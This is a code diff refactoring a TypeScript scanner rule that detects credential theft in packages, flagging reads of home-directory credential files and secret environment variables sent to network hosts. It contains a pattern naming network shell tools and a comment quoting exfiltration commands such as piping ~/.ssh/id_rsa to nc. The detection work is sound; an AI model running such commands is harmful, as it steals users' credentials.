@@ -1,7 +1,8 @@
-import { flowOf, L } from '../src/analyze/flow.ts'
+import { L } from '../src/analyze/flow.ts'
+import { crossFileNote, eventLocation, onFileFlow, ownText, TheftEvidence } from '../src/analyze/flow-rules.ts'
 import { classifyPath } from '../src/analyze/sensitive-paths.ts'
-import { destinationOf, isShadyDestination, locate, whenRuns, type Location } from '../src/analyze/sinks.ts'
-import { defineRule, type Severity } from '../src/types.ts'
+import { destinationOf, isShadyDestination } from '../src/analyze/sinks.ts'
+import { defineRule } from '../src/types.ts'
 
 const NETWORK_TOOL = /\b(?:curl|wget|nc|ncat|netcat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/i
 
@@ -29,9 +30,7 @@ export default defineRule({
     docs: 'rules/credential-file-theft.md',
   },
   create(context) {
-    const reads: Array<{ where: Location; targets: string[] }> = []
-    const sends: Array<{ where: Location; destination: ReturnType<typeof destinationOf> }> = []
-    let networkFiles = 0
+    const evidence = new TheftEvidence()
     let literals: string[] = []
     const literalTargets = () => {
       const out = new Set<string>()
@@ -49,65 +48,55 @@ export default defineRule({
         if (v.length > 200 || v.length < 4 || literals.length >= 1000 || (v.charCodeAt(0) !== 46 && v.charCodeAt(0) !== 47 && !v.includes('/.'))) return
         literals.push(v)
       },
-      'Program:exit'(program, ctx) {
-        const file = ctx.file
-        if (!file) return
-        const flow = flowOf(program, ctx)
-        if (flow.network.length > 0) networkFiles++
-        for (const event of flow.files) {
-          if (event.kind !== 'read' || event.probe || (event.pathTaint & L.P_CRED) === 0) continue
-          const fromHome = (event.pathTaint & L.HOMEDIR) !== 0 || event.pathText.startsWith('~') || event.pathText.startsWith('/etc/')
-          if (!fromHome) continue
-          let targets = classifyPath(event.pathText).filter((x) => x.kind === 'credential').map((x) => x.target)
-          if (targets.length === 0) targets = literalTargets()
-          reads.push({ where: locate(file, event.node), targets: targets.length > 0 ? targets : ['a credential file'] })
-        }
+      'Program:exit': onFileFlow((flow, file) => {
+        evidence.collect(flow, file, {
+          pathLabel: L.P_CRED,
+          contentLabel: L.CRED,
+          keepRead: (event) => !event.probe && ((event.pathTaint & L.HOMEDIR) !== 0 || event.pathText.startsWith('~') || event.pathText.startsWith('/etc/')),
+          targetsOf: (event) => {
+            let targets = classifyPath(event.pathText).filter((x) => x.kind === 'credential').map((x) => x.target)
+            if (targets.length === 0) targets = literalTargets()
+            return targets.length > 0 ? targets : ['a credential file']
+          },
+          keepSend: (_event, destination) => destination.kind !== 'local',
+        })
         // curl -d @~/.npmrc http://…, cat ~/.ssh/id_rsa | nc host 80: a command that reads and sends
         for (const event of flow.exec) {
-          if (event.family !== 'process' || !NETWORK_TOOL.test(event.text)) continue
+          if (event.family !== 'process' || !ownText(event) || !NETWORK_TOOL.test(event.text)) continue
           const targets = classifyPath(event.text).filter((x) => x.kind === 'credential').map((x) => x.target)
           if (targets.length === 0 || !/~|\/etc\/|\$HOME|%USERPROFILE%/.test(event.text)) continue
-          reads.push({ where: locate(file, event.node), targets })
-          sends.push({ where: locate(file, event.node), destination: { kind: 'static', detail: 'the network by a shell command' } })
+          const where = eventLocation(file, event)
+          evidence.reads.push({ where, targets })
+          evidence.sends.push({ where, destination: { kind: 'static', detail: 'the network by a shell command' }, note: crossFileNote(file, event) })
         }
         // Secret-looking environment variables (NPM_TOKEN, AWS_SECRET_ACCESS_KEY …) to a shady host
         for (const event of flow.network) {
           if ((event.taint & L.ENVKEY) === 0 || (event.taint & L.CRED) !== 0) continue
           const destination = destinationOf(event.url)
           if (!isShadyDestination(destination.kind)) continue
-          reads.push({ where: locate(file, event.node), targets: ['secret environment variables'] })
-          sends.push({ where: locate(file, event.node), destination })
+          const where = eventLocation(file, event)
+          evidence.reads.push({ where, targets: ['secret environment variables'] })
+          evidence.sends.push({ where, destination, note: crossFileNote(file, event, L.ENVKEY) })
         }
-        for (const event of flow.network) {
-          if ((event.taint & L.CRED) === 0) continue
-          const destination = destinationOf(event.url)
-          if (destination.kind === 'local') continue
-          sends.push({ where: locate(file, event.node), destination })
-        }
-      },
+      }),
       'Package:exit'() {
-        if (reads.length === 0 && sends.length === 0) return
-        const targets = [...new Set(reads.flatMap((r) => r.targets))]
+        if (evidence.empty) return
+        const targets = evidence.targets()
         const families = new Set(targets.map(familyOf))
         const list = targets.join(', ')
-        const send = sends.find((s) => s.destination.kind !== 'dynamic' && s.destination.kind !== 'registry') ?? sends[0]
-        const first = send?.where ?? reads[0]!.where
-        let severity: Severity
-        let message: string
-        if (send && send.destination.kind !== 'dynamic' && send.destination.kind !== 'registry') {
-          severity = 'critical'
-          message = `Credentials (${list || 'credential file content'}) are read and sent to ${send.destination.detail}${isShadyDestination(send.destination.kind) ? '' : ', a hard-coded destination'}.`
-        } else if (send) {
-          severity = 'medium'
-          message = `Credential content (${list || 'a credential file'}) is sent to ${send.destination.detail}; fine for a client authenticating to a configured service, theft otherwise.`
+        const fixed = evidence.sends.find((s) => s.destination.kind !== 'dynamic' && s.destination.kind !== 'registry')
+        const sent = fixed && evidence.sentFinding(`Credentials (${list || 'credential file content'}) are`, fixed, isShadyDestination(fixed.destination.kind) ? '' : ', a hard-coded destination')
+        if (sent) {
+          evidence.report(context, sent.severity, sent.message, sent.where)
+        } else if (evidence.sends[0]) {
+          const send = evidence.sends[0]
+          evidence.report(context, 'medium', `Credential content (${list || 'a credential file'}) is sent to ${send.destination.detail}; fine for a client authenticating to a configured service, theft otherwise.${send.note}`, send.where)
         } else if (families.size >= 3) {
-          severity = networkFiles > 0 ? 'critical' : 'high'
-          message = `Sweeps ${families.size} kinds of credentials from the home directory (${list})${networkFiles > 0 ? ' in a package that also sends data over the network' : ''}.`
+          const network = evidence.networkFiles > 0
+          evidence.report(context, network ? 'critical' : 'high', `Sweeps ${families.size} kinds of credentials from the home directory (${list})${network ? ' in a package that also sends data over the network' : ''}.`)
         } else {
-          severity = 'low'
-          message = `Reads ${list} from the home directory.`
+          evidence.report(context, 'low', `Reads ${list} from the home directory.`)
         }
-        context.report({ file: first.file, line: first.line, column: first.column, snippet: first.snippet, entryKind: first.entryKind, severity, message: message + whenRuns(first) })
       },
     }
   },
